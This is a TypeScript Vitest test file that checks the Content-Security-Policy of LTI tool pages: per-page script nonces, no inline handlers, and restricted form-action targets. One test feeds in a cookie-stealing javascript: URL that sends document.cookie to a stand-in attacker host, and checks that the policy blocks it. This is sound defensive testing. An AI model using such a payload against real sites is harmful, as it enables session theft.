// The LTI pages' own Content-Security-Policy (issue 22, item 1): every <script> bears the page's fresh nonce, no
// inline handler, forms post only where the page posts (a javascript: return URL: nowhere).
import { describe, expect, it } from 'vitest';
import { DEFAULT_BRAND } from '@/lib/tenant/brand';
import { autoPostPage, errorPage, linkPage, pickerPage, playerPage, type HtmlPage } from './pages';

const directive = (csp: string, name: string) => csp.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `))?.slice(name.length + 1);

function nonceOf(page: HtmlPage): string {
  const scriptSrc = directive(page.csp, 'script-src')!;
  expect(scriptSrc).toMatch(/^'nonce-[A-Za-z0-9+/]{22}=='$/);
  const nonce = scriptSrc.slice(7, -1);
  for (const tag of page.html.match(/<script\b[^>]*>/gi) ?? []) expect(tag).toContain(` nonce="${nonce}"`);
  expect(page.html.replace(/<script\b[^>]*>[\s\S]*?<\/script>/gi, '')).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
  expect(directive(page.csp, 'object-src')).toBe("'none'");
  expect(directive(page.csp, 'base-uri')).toBe("'none'");
  return nonce;
}

const link = { brand: DEFAULT_BRAND, platformName: 'Moodle', lmsName: 'Tess', lmsEmail: 't@example.edu', userEmail: 'tess@example.test', launchToken: 'tok' };

describe('LTI pages', () => {
  it('bind their scripts to a fresh nonce per page', () => {
    const a = playerPage({ brand: DEFAULT_BRAND, title: 'Quiz', frameSrc: 'https://app.example/h5p/embed/1?token=t', resizerSrc: 'https://app.example/h5p-resizer.js' });
    const b = playerPage({ brand: DEFAULT_BRAND, title: 'Quiz', frameSrc: 'https://app.example/h5p/embed/1?token=t', resizerSrc: 'https://app.example/h5p-resizer.js' });
    expect(nonceOf(a)).not.toBe(nonceOf(b));
    expect(a.html).toContain('<script nonce="');
    expect(directive(a.csp, 'form-action')).toBe("'none'");
  });

  it('post forms only where they post', () => {
    expect(directive(pickerPage({ brand: DEFAULT_BRAND, platformName: 'Moodle', contextTitle: null, launchToken: 't', linked: null, acceptMultiple: true }).csp, 'form-action')).toBe("'self'");
    expect(directive(linkPage(link).csp, 'form-action')).toBe("'self'");
    expect(directive(linkPage({ ...link, done: true }).csp, 'form-action')).toBe("'none'");
    expect(directive(errorPage(DEFAULT_BRAND, 'Oops', 'No').csp, 'form-action')).toBe("'none'");
    const back = autoPostPage(DEFAULT_BRAND, 'https://lms.example/mod/lti/return.php?course=2', { JWT: 'x.y.z' });
    nonceOf(back);
    expect(directive(back.csp, 'form-action')).toBe('https://lms.example');
  });

  it('a javascript: return URL that got through posts nowhere and runs nothing', () => {
    const page = autoPostPage(DEFAULT_BRAND, 'javascript:fetch("//evil.example/?"+document.cookie)', { JWT: 'x' });
    nonceOf(page);
    expect(directive(page.csp, 'form-action')).toBe("'none'");
  });

  it("the link page's close button has no inline handler: its script sets it", () => {
    const done = linkPage({ ...link, done: true });
    nonceOf(done);
    expect(done.html).not.toContain('onclick');
    expect(done.html).toContain("getElementById('close').addEventListener('click'");
  });

  it('every page leaves frame-ancestors to its path class (the front server adds it)', () => {
    for (const page of [errorPage(DEFAULT_BRAND, 'Oops', 'No'), linkPage(link)]) expect(directive(page.csp, 'frame-ancestors')).toBeUndefined();
  });
});
